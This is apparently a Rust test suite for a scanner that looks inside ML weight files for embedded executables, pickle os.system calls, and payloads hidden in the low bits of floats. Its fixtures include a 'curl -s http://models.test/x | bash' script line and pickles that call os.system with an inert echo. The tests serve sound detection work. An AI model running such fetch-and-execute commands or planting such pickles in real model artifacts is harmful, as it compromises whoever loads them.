//! What lies in the midst of weights: found by the pass that hashes, at any place, and in the lowest
//! bits of the numbers.

use lanner::artifact::{Limits, Memory, Report, hash, inspect_with};

use super::build::{self, pickle, tensors, zip};
use super::{ALARMING, declared, list};

const PROGRAMS: &str = "artifact.embedded_executables";
const HIDDEN: &str = "artifact.tensors.hidden_payloads";
const CALLS: &str = "artifact.pickle.dangerous_calls";

/// Hashed and looked into, as a scan does it.
fn scanned(bytes: Vec<u8>, name: &str) -> Report {
    let memory = Memory(bytes);
    let hashed = hash(&memory, Vec::new(), &|| false).expect("memory can be read").expect("nobody stops it");
    let report = inspect_with(&memory, name, &Limits::default(), &hashed.found);
    declared(&report);
    report
}

/// Bytes without any order, the same at every run.
fn noise(count: usize) -> Vec<u8> {
    let mut state = 0x2545_f491_4f6c_dd1d_u64;
    let mut next = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state.to_le_bytes()
    };
    (0..count.div_ceil(8)).flat_map(|_| next()).take(count).collect()
}

fn pe() -> Vec<u8> {
    let mut out = b"MZ".to_vec();
    out.resize(60, 0);
    out.extend([128, 0, 0, 0]);
    out.resize(128, 0);
    out.extend(b"PE\0\0\x64\x86\x03\0");
    out.resize(128 + 20, 0);
    out.extend([0xf0, 0, 0x22, 0, 0x0b, 0x02]);
    out.resize(256, 0);
    out
}

fn float_tensor(data: &[u8]) -> Vec<u8> {
    let (count, end) = (data.len() / 4, data.len());
    tensors::safetensors(&format!(r#"{{"w":{{"dtype":"F32","shape":[{count}],"data_offsets":[0,{end}]}}}}"#), data)
}

fn numpy(descr: &str, count: usize, data: &[u8]) -> Vec<u8> {
    let mut header = format!("{{'descr': '{descr}', 'fortran_order': False, 'shape': ({count},), }}");
    header.push_str(&" ".repeat(64 - (10 + header.len() + 1) % 64));
    header.push('\n');
    let length = u16::try_from(header.len()).expect("it is short").to_le_bytes();
    [b"\x93NUMPY\x01\0".as_slice(), &length, header.as_bytes(), data].concat()
}

/// A torch archive whose only storage holds these bytes.
fn torch(data: &[u8]) -> Vec<u8> {
    let mut members = zip::torch(&build::pickle_benign());
    members.push(zip::member("archive/data/7", data));
    zip::archive(&members)
}

fn planted(payload: &[u8], at: usize) -> Vec<u8> {
    let mut data = noise(1 << 20);
    data[at..at + payload.len()].copy_from_slice(payload);
    data
}

#[test]
fn a_program_is_found_anywhere_in_weights() {
    // In the middle, across the pieces in which a file is read, and as the very last bytes.
    for at in [1, 4097, (256 << 10) - 3, (512 << 10) - 60, (1 << 20) - 256] {
        for (kind, payload) in [("elf@", build::elf()), ("pe@", pe())] {
            let data = planted(&payload, at);
            for (file, name) in [
                (float_tensor(&data), "model.safetensors"),
                (numpy("<f4", data.len() / 4, &data), "w.npy"),
                (torch(&data), "model.pt"),
                (data.clone(), "model.bin"),
                ([tensors::gguf(&[]), data.clone()].concat(), "model.gguf"),
            ] {
                let report = scanned(file, name);
                let found = list(&report, PROGRAMS);
                assert!(found.iter().any(|found| found.starts_with(kind)), "{name} at {at}: {found:?}");
            }
        }
    }
}

#[test]
fn a_pickle_is_found_anywhere_in_weights() {
    let framed = pickle::whole(4, &[&pickle::stack_call("os", "system", &["echo inert"])]);
    let plain = pickle::whole(2, &[&pickle::call("os", "system", &["echo inert"])]);
    for payload in [framed, plain, b"cposix\nsystem\n(S'echo inert'\ntR.".to_vec()] {
        for at in [5, (256 << 10) - 7, 700_001] {
            let data = planted(&payload, at);
            for (file, name) in [
                (float_tensor(&data), "model.safetensors"),
                (numpy("<f4", data.len() / 4, &data), "w.npy"),
                (torch(&data), "model.pt"),
            ] {
                let calls = list(&scanned(file, name), CALLS);
                assert!(calls.iter().any(|call| call.ends_with(".system")), "{name} at {at}: {calls:?}");
            }
        }
    }
}

#[test]
fn decoys_hide_nothing() {
    for (decoy, count) in [(b"\x80\x02cnumpy\ndtype\n.".to_vec(), 3000), (b"\x80\x04\x8c\x02os".to_vec(), 200_000)] {
        let mut data = noise(1000);
        (0..count).for_each(|_| data.extend_from_slice(&decoy));
        data.extend(noise(600));
        data.extend(build::pickle_os_system());
        data.resize(data.len().next_multiple_of(4), 0);
        let report = scanned(numpy("<f4", data.len() / 4, &data), "w.npy");
        let told = !list(&report, HIDDEN).is_empty() || !list(&report, CALLS).is_empty();
        assert!(told && report.issues.iter().any(|issue| issue.code == "budget_exceeded"), "{:?}", report.facts);
    }
    // As many as are kept are all looked at.
    let decoys = b"\x80\x02cnumpy\ndtype\n.\xff\xff\xff".repeat(200);
    let mut data = [decoys, noise(600), build::pickle_os_system()].concat();
    data.resize(data.len().next_multiple_of(4), 0);
    let report = scanned(numpy("<f4", data.len() / 4, &data), "w.npy");
    assert!(!list(&report, CALLS).is_empty(), "{:?}", report.facts);
}

#[test]
fn records_in_a_row_are_no_decoys() {
    // One pickle after another, as a log of records is written, and a program behind them.
    let record = pickle::whole(4, &[b"\x95\x04\0\0\0\0\0\0\0K\x07\x94"]);
    let records = record.repeat(6000);
    let report = scanned(records.clone(), "records.pkl");
    assert!(!report.facts.contains_key(HIDDEN), "{:?}", report.facts.get(HIDDEN));
    let report = scanned([noise(16), records, build::elf(), noise(600)].concat(), "w.bin");
    assert!(list(&report, PROGRAMS).iter().any(|found| found.starts_with("elf")), "{:?}", report.facts);
}

#[test]
fn noise_holds_nothing() {
    let data = noise(24 << 20);
    for (file, name) in [
        (float_tensor(&data), "model.safetensors"),
        (torch(&data), "model.pt"),
        (numpy("<f4", data.len() / 4, &data), "w.npy"),
    ] {
        let report = scanned(file, name);
        for path in ALARMING {
            assert!(!report.facts.contains_key(*path), "{name}: {path} {:?}", report.facts.get(*path));
        }
    }
}

/// Numbers of `width` bytes whose lowest `bits` spell a payload.
fn hidden_in(payload: &[u8], width: usize, bits: usize, high_first: bool) -> Vec<u8> {
    let each = 8 / bits;
    let mut data = noise((payload.len() * each + 500) * width);
    for (index, number) in data.chunks_exact_mut(width).enumerate().take(payload.len() * each) {
        let place = if high_first { each - 1 - index % each } else { index % each };
        let mask = u8::try_from((1_u16 << bits) - 1).expect("at most eight bits");
        number[0] = (number[0] & !mask) | ((payload[index / each] >> (place * bits)) & mask);
    }
    data
}

#[test]
fn what_the_lowest_bits_spell_is_read() {
    let pickle = pickle::whole(4, &[&pickle::stack_call("os", "system", &["echo inert"])]);
    let text = b"import socket, subprocess  # connect to the host and run".to_vec();
    let counted = [&500_u32.to_le_bytes()[..], &build::elf()].concat();
    for (kind, payload) in [
        ("elf", build::elf()),
        ("elf", counted),
        ("pickle", pickle),
        ("text", text),
        ("zip", b"PK\x03\x04\x14\0\0\0\x08\0".to_vec()),
    ] {
        for bits in [1, 2, 4, 8] {
            for (descr, width) in [("<f2", 2), ("<f4", 4), ("<f8", 8)] {
                for high_first in [true, false] {
                    let data = hidden_in(&payload, width, bits, high_first);
                    let found = list(&scanned(numpy(descr, data.len() / width, &data), "w.npy"), HIDDEN);
                    assert!(found.iter().any(|found| found.starts_with(kind)), "{kind} {bits} {descr}: {found:?}");
                }
            }
        }
    }
    let data = hidden_in(&build::elf(), 4, 1, true);
    assert_eq!(
        list(&scanned(float_tensor(&data), "model.safetensors"), HIDDEN),
        ["elf in the lowest 1 of each 32 bits"]
    );
    assert_eq!(list(&scanned(torch(&data), "model.pt"), HIDDEN), ["elf in the lowest 1 of each 32 bits"]);
}

#[test]
fn a_script_in_the_middle_of_numbers_is_one() {
    let data = planted(b"#!/bin/bash\ncurl -s http://models.test/x | bash\n", 70_000);
    for (file, name) in [
        (float_tensor(&data), "model.safetensors"),
        (numpy("<f4", data.len() / 4, &data), "w.npy"),
        (torch(&data), "model.pt"),
    ] {
        let found = list(&scanned(file, name), PROGRAMS);
        assert!(found.iter().any(|found| found.starts_with("script@")), "{name}: {found:?}");
    }
    // In a text of a GGUF it is a word.
    let report = scanned(tensors::gguf(&[("general.description", "begins with #!/bin/sh")]), "model.gguf");
    assert!(list(&report, PROGRAMS).is_empty());
}

#[test]
fn whole_numbers_spell_nothing() {
    let text = "It was the best of times, it was the worst of times, it was the age of wisdom. ".repeat(20);
    let codes: Vec<u8> = text.bytes().flat_map(|byte| i64::from(byte).to_le_bytes()).collect();
    let ratings: Vec<u8> = noise(4000).into_iter().flat_map(|byte| i64::from(3 + byte % 6).to_le_bytes()).collect();
    let small: Vec<u8> = noise(4000).into_iter().map(|byte| 3 + byte % 6).collect();
    for (file, name) in [
        (numpy("<i8", codes.len() / 8, &codes), "codes.npy"),
        (torch(&codes), "codes.pt"),
        (numpy("<i8", ratings.len() / 8, &ratings), "quality.npy"),
        (torch(&ratings), "quality.pt"),
        (numpy("|u1", small.len(), &small), "small.npy"),
        (numpy("|S1", text.len(), text.as_bytes()), "letters.npy"),
    ] {
        let report = scanned(file, name);
        assert!(!report.facts.contains_key(HIDDEN), "{name}: {:?}", report.facts.get(HIDDEN));
    }
}

#[test]
fn numbers_as_people_store_them_spell_nothing() {
    let floats = |of: &dyn Fn(u32) -> f32| (0..40_000).flat_map(|index| of(index).to_le_bytes()).collect::<Vec<u8>>();
    let small = |index: u32| f32::from(u16::try_from(index % 60_000).unwrap_or(0));
    let cases = [
        floats(&|_| 0.0),
        floats(&|_| 1.0),
        floats(&|_| 0.1),
        floats(&small),
        floats(&|index| small(index) / 255.0),
        floats(&|index| (small(index) * 0.001).sin()),
        floats(&|index| f32::from_bits((small(index) * 0.01).sin().to_bits() & 0xffff_0000)),
        floats(&|index| (small(index) * 0.01).exp().recip()),
        noise(160_000),
    ];
    for (number, data) in cases.iter().enumerate() {
        for (file, name) in [
            (float_tensor(data), "model.safetensors"),
            (torch(data), "model.pt"),
            (numpy("<f8", data.len() / 8, data), "w.npy"),
        ] {
            let report = scanned(file, name);
            assert!(!report.facts.contains_key(HIDDEN), "{name} {number}: {:?}", report.facts.get(HIDDEN));
        }
    }
}

#[test]
fn what_only_looks_like_pickles_costs_no_time() {
    let dense = b"cos\nsystem\n(".repeat(400_000);
    let report = scanned(float_tensor(dense.get(..4 << 20).expect("it is longer")), "a.safetensors");
    assert!(!list(&report, HIDDEN).is_empty(), "{report:?}");
    let told = |word: &str| report.issues.iter().any(|issue| issue.detail.contains(word));
    assert!(told("only the beginnings of the others") && !told("opcodes_max"), "{report:?}");
    // However much of it there is in front, what acts is told.
    for count in [100, 900] {
        let imports = b"cos\nsystem\n(".repeat(count);
        let sample = [noise(4096), imports, noise(1 << 20), build::pickle_os_system(), vec![0; 512]].concat();
        let end = sample.len() / 4 * 4;
        let report = scanned(float_tensor(sample.get(..end).expect("it is shorter")), "a.safetensors");
        assert_eq!(list(&report, CALLS), ["os.system"], "{count}");
    }
}
